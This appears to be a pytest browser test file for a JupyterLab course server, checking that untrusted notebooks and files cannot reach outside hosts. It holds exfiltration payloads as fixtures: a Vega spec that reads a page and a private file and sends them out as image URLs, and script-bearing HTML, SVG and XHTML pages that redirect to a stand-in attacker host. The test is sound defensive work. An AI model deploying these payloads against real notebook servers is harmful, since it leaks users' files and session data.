"""A stranger's notebook, opened in JupyterLab as ``make lab`` starts it: nothing saved in it fetches or sends."""

import json
import shutil
from pathlib import Path
from urllib.parse import urlsplit

import nbformat
import pytest

from tests.browser.served.started import started
from tests.browser.served.test_neighbours import neighbour as neighbour
from tools import browser, chapter

CHAPTER = "00-start-here.ipynb"
IN_A_WHILE = 4000  # milliseconds, in which Vega fetches and draws


def vega(his):
    """Fetches the page of JupyterLab and a file of the folder, and sends what it finds as addresses of pictures."""
    lines = {"type": "dsv", "delimiter": "\x01", "header": ["line"]}
    size = {"width": {"value": 5}, "height": {"value": 5}}
    picture = lambda data, signal: {
        "type": "image",
        "from": {"data": data},
        "encode": {"update": {"url": {"signal": signal}, **size}},
    }
    return {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "width": 5,
        "height": 5,
        "data": [
            {"name": "page", "url": "http:../../lab", "format": lines},
            {"name": "file", "url": "private.json", "format": {"type": "json"}},
            {"name": "his", "url": f"{his}?vega", "format": {"type": "json"}},
        ],
        "marks": [
            picture("page", f"'{his}?page=' + substring(datum.line || '', 0, 100)"),
            picture("file", f"'{his}?file=' + datum.answer"),
        ],
    }


def stranger(his):
    shown = {
        "application/vnd.vega.v5+json": vega(his),
        "application/vnd.vegalite.v5+json": {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"url": f"{his}?lite"},
            "mark": "point",
            "encoding": {},
        },
        "text/html": f"<img src='{his}?html'><div style='background: url({his}?style)'>seen</div>",
        "text/vnd.mermaid": f'flowchart TD\n    A@{{ img: "{his}?mermaid", label: "x", w: 60, h: 60 }}',
    }
    outputs = [nbformat.v4.new_output("display_data", {kind: content}) for kind, content in shown.items()]
    cells = [
        nbformat.v4.new_markdown_cell(f'![x]({his}?text) <img src="{his}?tag" referrerpolicy="unsafe-url">'),
        nbformat.v4.new_markdown_cell(f"```mermaid\n{shown['text/vnd.mermaid']}\n```"),
        nbformat.v4.new_code_cell("1", outputs=outputs, execution_count=1),
    ]
    return nbformat.v4.new_notebook(cells=cells, metadata=chapter.METADATA)


SENDS = "location.href = '{his}' + location.pathname.slice(1) + location.search"
PAGES = {
    "files/evil.html": "<h1>seen</h1><script>{sends}</script><img src='{his}?img'><body onload=\"{sends}\">",
    "files/evil.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>{sends}</script><text y='20'>seen</text></svg>",
    "files/evil.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'><body>seen<script>{sends}</script></body></html>",
    "files/refresh.html": "<meta http-equiv='refresh' content='0; {his}?refresh'>seen",
    "nbconvert/html/page.ipynb": "seen<script>{sends}</script>",
}


@pytest.fixture
def served(tmp_path, neighbour):
    """The server, and a folder with a chapter and what a stranger sent."""
    folder = tmp_path / "folder"
    folder.mkdir()
    shutil.copy(chapter.ROOT / "chapters" / CHAPTER, folder)
    nbformat.write(stranger(neighbour[0]), folder / "stranger.ipynb")
    (folder / "stranger.vg.json").write_text(json.dumps(vega(neighbour[0])))
    for place, text in PAGES.items():
        text = text.format(his=neighbour[0], sends=SENDS.format(his=neighbour[0]))
        if place.endswith(".ipynb"):
            outputs = [nbformat.v4.new_output("display_data", {"text/html": text})]
            cell = nbformat.v4.new_code_cell("1", outputs=outputs, execution_count=1)
            text = nbformat.writes(nbformat.v4.new_notebook(cells=[cell], metadata=chapter.METADATA))
        (folder / Path(place).name).write_text(text)
    (folder / "private.json").write_text('[{"answer": 42}]')
    command = ["tools.lab", "--allow-root", "--expose-app-in-browser", str(folder / CHAPTER)]
    with started(tmp_path, *command) as address:
        url, _, token = address.partition("?token=")
        yield browser.Server(url.rstrip("/"), token, folder)


def test_nothing_leaves_and_the_course_works(chromium, served, neighbour):
    page = chromium.new_page(viewport={"width": 1366, "height": 768})
    asked = []
    page.on("response", lambda answer: asked.append(answer.url))
    before = (served.folder / "stranger.ipynb").read_text()

    opened = browser.Notebook.open(page, served, "stranger.ipynb")
    page.get_by_text("seen", exact=True).wait_for()
    page.wait_for_timeout(IN_A_WHILE)
    page.evaluate("jupyterapp.commands.execute('docmanager:open', {path: 'stranger.vg.json'}), 0")
    page.wait_for_function("jupyterapp.shell.currentWidget.context?.path === 'stranger.vg.json'")
    page.wait_for_timeout(IN_A_WHILE)
    assert not neighbour[1], "the stranger's server was asked"
    assert {urlsplit(url).netloc for url in asked if url.startswith("http")} == {urlsplit(served.url).netloc}
    assert not any("private.json" in url for url in asked), "a saved output read a file"
    assert page.locator(".vega-embed, canvas.marks").count() == 0
    assert served.token not in page.content()
    assert all("Content Security Policy" in problem or neighbour[0] in problem for problem in opened.problems), opened

    page.evaluate("jupyterapp.commands.execute('docmanager:open', {path: 'stranger.ipynb'}), 0")
    page.evaluate("jupyterapp.commands.execute('docmanager:save').then(() => (window.isSaved = true)), 0")
    page.wait_for_function("window.isSaved")
    outputs = lambda text: [output.data for cell in nbformat.reads(text, 4).cells for output in cell.get("outputs", ())]
    assert outputs((served.folder / "stranger.ipynb").read_text()) == outputs(before), "a save loses no output"
    page.close()
    works(chromium, served)


def test_a_page_of_his_that_is_opened_by_itself_sends_nothing(chromium, served, neighbour):
    """It knows the secret path, from its own address; the browser would add the cookie."""
    page = chromium.new_page()
    page.goto(f"{served.url}/lab?token={served.token}", timeout=1000 * browser.SECONDS)
    page.locator(".jp-FileBrowser").first.wait_for(timeout=1000 * browser.SECONDS)
    for place in PAGES:
        address = f"{served.url}/{place}"
        with page.context.expect_event("response", lambda answer: answer.url == address) as answer:  # noqa: B023
            with page.expect_popup() as opened:
                page.evaluate("(address) => { window.open(address, '_blank') }", address)
        assert answer.value.status == 200
        page.wait_for_timeout(1000)
        assert opened.value.url == address
        opened.value.close()
    assert not neighbour[1], "the stranger's server was asked"
    page.close()


def works(chromium, served):
    """A chapter, its formulas, its lab and a terminal, under the same rules."""
    page = chromium.new_page(viewport={"width": 1366, "height": 768})
    notebook = browser.Notebook.open(page, served, CHAPTER)
    page.locator("mjx-container").first.wait_for()
    notebook.run_all(400)
    assert not notebook.errors()
    lab = notebook.lab("00.bound")
    lab.get_by_role("button", name="Skip (Esc)").click()  # its question
    slider = lab.locator("input[type=range]").first
    slider.wait_for()
    first = browser.words(lab)
    slider.focus()
    for _ in range(5):
        slider.press("ArrowRight")
    notebook.wait_for_words(lab, other_than=first)
    assert lab.locator(".vaecourse-picture canvas[data-shown]").evaluate("(canvas) => canvas.width") > 800
    page.evaluate("jupyterapp.commands.execute('terminal:create-new'), 0")
    page.locator(".jp-Terminal .xterm-helper-textarea").wait_for(state="attached")
    made = Path(served.folder, "made by the terminal")
    page.wait_for_timeout(2000)  # for its shell
    page.keyboard.type(f"touch '{made}'\n")
    for _ in range(100):
        if made.exists():
            break
        page.wait_for_timeout(100)
    assert made.exists()
    assert not notebook.problems, "\n".join(notebook.problems)
    page.close()


FRAMES = """\
from IPython.display import HTML, IFrame, YouTubeVideo, display
display(IFrame("own.html", 300, 80), IFrame("{his}?frame", 300, 80), YouTubeVideo("dQw4w9WgXcQ"))
display(HTML("<iframe srcdoc='<b>within</b><script>parent.document.title = 1</script>'></iframe>"))"""


def test_frames_of_ones_own_notebook_show_what_this_server_has_and_nothing_else(chromium, served, neighbour):
    """What SECURITY.md says of them."""
    (served.folder / "own.html").write_text(f"<p>seen</p><script>fetch('{neighbour[0]}?own')</script>")
    browser.notebook_of(FRAMES.format(his=neighbour[0]), served.folder / "frames.ipynb")
    page = chromium.new_page(viewport={"width": 1366, "height": 768})
    asked = []
    page.on("response", lambda answer: asked.append(answer.url))
    opened = browser.Notebook.open(page, served, "frames.ipynb")
    opened.run_all(100)
    page.wait_for_timeout(IN_A_WHILE)
    (own,) = [frame for frame in page.frames if "/files/own.html" in frame.url]
    assert own.locator("p").text_content() == "seen"
    assert any(frame.url == "about:srcdoc" and "within" in frame.content() for frame in page.frames)
    assert not neighbour[1], "a frame was fetched from elsewhere, or the program of a file in the folder ran"
    assert {urlsplit(url).netloc for url in asked if url.startswith("http")} == {urlsplit(served.url).netloc}
    for host in (neighbour[0], "https://www.youtube.com/"):
        assert any(f"Framing '{host}' violates" in problem for problem in opened.problems)
    assert any("Blocked script execution" in problem and "own.html" in problem for problem in opened.problems)
    page.close()
